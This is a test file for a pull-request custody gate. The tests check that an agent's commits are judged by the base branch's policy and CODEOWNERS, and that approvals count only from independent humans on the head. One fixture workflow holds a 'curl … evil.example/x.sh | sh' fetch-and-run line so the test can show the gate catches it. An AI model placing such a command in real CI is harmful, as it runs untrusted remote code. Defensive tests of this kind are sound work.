/**
 * The gate holds, end to end in real git repositories through the real CLI: the policy and
 * CODEOWNERS come from the base, so a change cannot relax the rules that judge it; approvals
 * count only on the head and only from independent humans; bad ranges and unreadable inputs are
 * one-line exit-2 errors.
 */
import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { IncomingMessage, Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { capturedIO } from "../../src/cli/cli-io.js";
import { run } from "../../src/cli/main.js";
import type { GitScenario } from "../fixtures/git-scenario.js";
import { createGitScenario } from "../fixtures/git-scenario.js";

const COPILOT = { name: "Copilot", email: "198982749+Copilot@users.noreply.github.com" };
const HUMAN = { name: "Ada Lovelace", email: "ada@example.com" };
const TRAILERS = "\n\nAgent-Task: https://github.com/acme/billing/issues/12\nAuthorized-by: @dana\n";

let repo: GitScenario;
let base: string;

beforeEach(() => {
  repo = createGitScenario();
  repo.write("src/app.ts", "export const app = 1;\n");
  repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n");
  repo.write(".github/custody.yml", "version: 1\n");
  repo.write(".github/CODEOWNERS", "/src/ @lead\n");
  base = repo.commit("Start", { author: HUMAN });
});

afterEach(() => {
  repo.dispose();
});

async function check(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  return checkWith({}, ...args);
}

async function checkWith(env: Record<string, string>, ...args: string[]): Promise<{ code: number; out: string; err: string }> {
  const io = capturedIO({ cwd: repo.dir, env });
  const code = await run(["check", ...args], io);
  return { code, out: io.out(), err: io.err() };
}

interface ReviewSpec {
  login: string;
  commit: string;
  state?: string;
}

/** A pull_request event for base..head by Copilot, assigned to dana, with the reviews given. */
function writeEvent(head: string, reviews: ReviewSpec[] | undefined, extra: { labels?: string[] } = {}): string {
  const user = (login: string, id: number, type = "User"): Record<string, unknown> => ({ login, id, type });
  const event = {
    action: "synchronize",
    pull_request: {
      number: 12,
      title: "Raise app",
      body: "",
      user: user("Copilot", 198982749, "Bot"),
      labels: (extra.labels ?? []).map((name) => ({ name })),
      head: { ref: "copilot/raise-app", sha: head },
      base: { ref: "main", sha: base },
      assignees: [user("dana", 4242)],
    },
    repository: { full_name: "acme/billing" },
    // A real pull_request event carries no reviews; tests that have them attach them.
    ...(reviews === undefined
      ? {}
      : {
          reviews: reviews.map((review, index) => ({
            user: user(review.login, 1000 + index),
            state: review.state ?? "APPROVED",
            submitted_at: `2026-11-25T10:0${String(index)}:00Z`,
            commit_id: review.commit,
          })),
        }),
  };
  const path = join(repo.dir, "event.json");
  writeFileSync(path, JSON.stringify(event));
  return path;
}

function ruleIds(out: string): string[] {
  return (JSON.parse(out) as { findings: { ruleId: string }[] }).findings.map((finding) => finding.ruleId);
}

describe("the policy comes from the base", () => {
  it("a commit that relaxes the policy and pipes curl into sh in a workflow fails, judged by the base's policy", async () => {
    repo.write(".github/custody.yml", "version: 1\nfail_on: critical\nrules:\n  protected_paths:\n    enabled: false\n");
    repo.write(
      ".github/workflows/ci.yml",
      "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n      - run: curl -sL https://evil.example/x.sh | sh\n",
    );
    const head = repo.commit(`Speed up CI${TRAILERS}`, { author: COPILOT });
    const { code, out } = await check("--base", base, "--head", head, "--format", "json");
    const report = JSON.parse(out) as {
      outcome: string;
      failOn: string;
      policy: Record<string, unknown>;
      rules: { id: string; outcome: string }[];
    };
    expect(code).toBe(1);
    expect(report.outcome).toBe("fail");
    expect(report.failOn).toBe("medium");
    expect(report.policy).toEqual({
      origin: "base",
      path: ".github/custody.yml",
      blobSha: repo.git("rev-parse", `${base}:.github/custody.yml`),
      rev: base,
    });
    expect(ruleIds(out)).toEqual(expect.arrayContaining(["protected-paths", "policy-change"]));
    expect(report.rules.find((rule) => rule.id === "protected-paths")?.outcome).toBe("failed");
  });

  it("the same commit judged by its own policy (--policy-from worktree) is the named exception, and the report says so", async () => {
    repo.write(".github/custody.yml", "version: 1\nfail_on: critical\nrules:\n  protected_paths:\n    enabled: false\n");
    repo.write(".github/workflows/ci.yml", "on: push\njobs: {}\n");
    const head = repo.commit(`Speed up CI${TRAILERS}`, { author: COPILOT });
    const { code, out } = await check("--base", base, "--head", head, "--policy-from", "worktree");
    expect(out).toMatch(/policy: \.github\/custody\.yml from the working tree \(blob [0-9a-f]{12}\), not the base's/);
    expect(out).toMatch(/skip protected-paths +skipped: disabled by the policy/);
    expect(code).toBe(0);
  });

  it("without a policy file at the base, the defaults apply and every format says so", async () => {
    repo.git("rm", "-q", ".github/custody.yml");
    const noPolicy = repo.commit("Drop the policy", { author: HUMAN });
    repo.write("src/app.ts", "export const app = 2;\n");
    const head = repo.commit("Bump", { author: HUMAN });
    for (const format of ["text", "markdown"]) {
      const { out } = await check("--base", noPolicy, "--head", head, "--format", format);
      expect(out, format).toContain(`built-in defaults (no .github/custody.yml at base ${noPolicy.slice(0, 12)})`);
    }
    const sarif = JSON.parse((await check("--base", noPolicy, "--head", head, "--format", "sarif")).out) as {
      runs: { properties: { policy: unknown } }[];
    };
    expect(sarif.runs[0]?.properties.policy).toEqual({ origin: "default", rev: noPolicy });
  });

  it("CODEOWNERS comes from the base: an agent that makes itself a friend the owner gains nothing", async () => {
    repo.write(".github/CODEOWNERS", "/src/ @sam\n");
    repo.write("src/app.ts", "export const app = 3;\n");
    const head = repo.commit(`Raise app${TRAILERS}`, { author: COPILOT });
    const event = writeEvent(head, [{ login: "sam", commit: head }]);
    const { out } = await check("--event", event, "--head", head, "--format", "json");
    const findings = (JSON.parse(out) as { findings: { ruleId: string; message: string }[] }).findings;
    expect(findings.find((finding) => finding.ruleId === "codeowner-approval")?.message).toContain("owned by @lead");
  });
});

describe("approvals count only on the head, from independent humans", () => {
  it("an approval of an older commit does not count; the same approval on the head does", async () => {
    repo.write("docs/a.md", "a\n");
    const first = repo.commit(`Docs${TRAILERS}`, { author: COPILOT });
    repo.write("docs/a.md", "b\n");
    const head = repo.commit(`More docs${TRAILERS}`, { author: COPILOT });
    const stale = await check("--event", writeEvent(head, [{ login: "sam", commit: first }]), "--head", head, "--format", "json");
    expect(ruleIds(stale.out)).toContain("required-approvals");
    expect(stale.out).toContain("not the head");
    const fresh = await check("--event", writeEvent(head, [{ login: "sam", commit: head }]), "--head", head, "--format", "json");
    expect(ruleIds(fresh.out)).not.toContain("required-approvals");
    expect(fresh.code).toBe(0);
  });

  it.each([
    ["the delegator (the PR's assignee)", "dana", /dana \(the delegating human\)|delegating human dana/],
    ["a co-author", "kim", /kim \(a commit author or co-author\)/],
  ])("%s does not count toward the quorum", async (_name, login, message) => {
    repo.write("docs/a.md", "a\n");
    const head = repo.commit(`Docs${TRAILERS}Co-authored-by: Kim <77+kim@users.noreply.github.com>\n`, { author: COPILOT });
    const { code, out } = await check("--event", writeEvent(head, [{ login, commit: head }]), "--head", head, "--format", "json");
    const finding = (JSON.parse(out) as { findings: { ruleId: string; message: string }[] }).findings.find(
      (entry) => entry.ruleId === "required-approvals",
    );
    expect(finding?.message).toMatch(message);
    expect(code).toBe(1);
  });

  it("an agent named in Authorized-by is refused with its reason", async () => {
    repo.write("docs/a.md", "a\n");
    const head = repo.commit("Docs\n\nAgent-Task: #12\nAuthorized-by: Claude <noreply@anthropic.com>\n", { author: COPILOT });
    const { out } = await check("--event", writeEvent(head, [{ login: "sam", commit: head }]), "--head", head, "--format", "json");
    const finding = (JSON.parse(out) as { findings: { ruleId: string; message: string }[] }).findings.find(
      (entry) => entry.ruleId === "required-trailers",
    );
    expect(finding?.message).toContain("Authorized-by: names Claude (an agent): only a human can authorise an agent's work");
  });
});

describe("bad ranges and unreadable inputs are one line, exit 2", () => {
  it("swapped --base and --head", async () => {
    repo.write("src/app.ts", "export const app = 9;\n");
    const head = repo.commit("Bump", { author: HUMAN });
    const { code, err } = await check("--base", head, "--head", base);
    expect(code).toBe(2);
    expect(err).toMatch(
      /^custody: --head .* is an ancestor of --base .*: there are no commits to check\. Are --base and --head swapped\?\n$/,
    );
  });

  it("an empty range (base equals head)", async () => {
    const { code, err } = await check("--base", base, "--head", base);
    expect(code).toBe(2);
    expect(err).toMatch(/are the same commit/);
  });

  it("--output into a missing directory", async () => {
    repo.write("src/app.ts", "export const app = 9;\n");
    const head = repo.commit("Bump", { author: HUMAN });
    const missing = await check("--base", base, "--head", head, "--output", "no/such/dir/report.txt");
    expect(missing.code).toBe(2);
    expect(missing.err).toMatch(/^custody: Cannot write the report to --output .*report\.txt: its directory does not exist\.\n$/);
  });

  // Root writes anywhere, so a read-only directory can only be shown to another user.
  it.skipIf(process.getuid?.() === 0)("--output into a read-only directory", async () => {
    repo.write("src/app.ts", "export const app = 9;\n");
    const head = repo.commit("Bump", { author: HUMAN });
    mkdirSync(join(repo.dir, "ro"));
    chmodSync(join(repo.dir, "ro"), 0o500);
    const readOnly = await check("--base", base, "--head", head, "--output", "ro/report.txt");
    expect(readOnly.code).toBe(2);
    expect(readOnly.err).toMatch(/its directory is not writable/);
  });

  it.each([
    ["--event", "event payload"],
    ["--sarif", "SARIF file"],
    ["--policy", "policy file"],
  ])("a FIFO or /dev/zero given as %s is refused, not read forever", async (option, what) => {
    const fifo = join(repo.dir, "input.fifo");
    execFileSync("mkfifo", [fifo]);
    for (const path of [fifo, "/dev/zero"]) {
      const { code, err } = await check("--base", base, option, path);
      expect(code, path).toBe(2);
      expect(err, path).toContain(what);
      expect(err, path).toMatch(/not a regular file/);
    }
  });
});

describe("the Action's github-token: reviews, labels and CODEOWNERS teams from the API (a local stand-in, never GitHub)", () => {
  let api: Server | undefined;
  const seen: string[] = [];

  afterEach(async () => {
    await new Promise<void>((resolve) => {
      if (api === undefined) {
        resolve();
        return;
      }
      api.close(() => {
        resolve();
      });
    });
    api = undefined;
    seen.length = 0;
  });

  async function standIn(routes: Record<string, unknown>, status = 200): Promise<string> {
    const server = createServer((request: IncomingMessage, response) => {
      const url = new URL(request.url ?? "/", "http://stand-in");
      seen.push(`${request.method ?? ""} ${url.pathname} ${request.headers.authorization ?? "no auth"}`);
      const body = routes[url.pathname];
      response.writeHead(body === undefined ? 404 : status, { "content-type": "application/json" });
      response.end(JSON.stringify(body ?? { message: "Not Found" }));
    });
    api = server;
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    return `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`;
  }

  it("fetches reviews and team members, so an independent team member's approval on the head passes both approval rules", async () => {
    repo.write(".github/CODEOWNERS", "/src/ @acme/platform\n");
    const teamBase = repo.commit("Team owns src", { author: HUMAN });
    repo.write("src/app.ts", "export const app = 2;\n");
    const head = repo.commit(`Raise app${TRAILERS}`, { author: COPILOT });
    const url = await standIn({
      "/repos/acme/billing/pulls/12/reviews": [
        { user: { login: "lee", id: 99, type: "User" }, state: "APPROVED", submitted_at: "2026-11-25T10:00:00Z", commit_id: head },
      ],
      "/repos/acme/billing/issues/12/labels": [],
      "/orgs/acme/teams/platform/members": [{ login: "lee" }],
    });
    const event = writeEvent(head, undefined);
    const withToken = await checkWith(
      { CUSTODY_GITHUB_TOKEN: "t0ken-for-the-stand-in", GITHUB_API_URL: url },
      "--event",
      event,
      "--base",
      teamBase,
      "--head",
      head,
      "--format",
      "json",
    );
    const report = JSON.parse(withToken.out) as { rules: { id: string; outcome: string }[] };
    expect(
      report.rules.filter((rule) => ["required-approvals", "codeowner-approval"].includes(rule.id)).map((rule) => rule.outcome),
    ).toEqual(["passed", "passed"]);
    expect(withToken.code).toBe(0);
    expect(seen).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^GET \/repos\/acme\/billing\/pulls\/12\/reviews (token|bearer) t0ken-for-the-stand-in$/i),
        expect.stringMatching(/^GET \/orgs\/acme\/teams\/platform\/members /),
      ]),
    );
    // The same check without the token cannot see the reviews, and says how to fix it.
    const without = await check("--event", event, "--base", teamBase, "--head", head);
    expect(without.code).toBe(1);
    expect(without.out).toContain("give the Action a github-token");
  });

  it("an API failure is exit 2 naming the call, never a pass", async () => {
    repo.write("src/app.ts", "export const app = 2;\n");
    const head = repo.commit(`Raise app${TRAILERS}`, { author: COPILOT });
    const url = await standIn(
      { "/repos/acme/billing/pulls/12/reviews": { message: "boom" }, "/repos/acme/billing/issues/12/labels": [] },
      500,
    );
    const { code, err } = await checkWith(
      { CUSTODY_GITHUB_TOKEN: "t", GITHUB_API_URL: url },
      "--event",
      writeEvent(head, undefined),
      "--head",
      head,
    );
    expect(code).toBe(2);
    expect(err).toMatch(/^custody: GitHub API GET \/repos\/\{owner\}\/\{repo\}\/pulls\/\{pull_number\}\/reviews failed with HTTP 500/);
  });
});
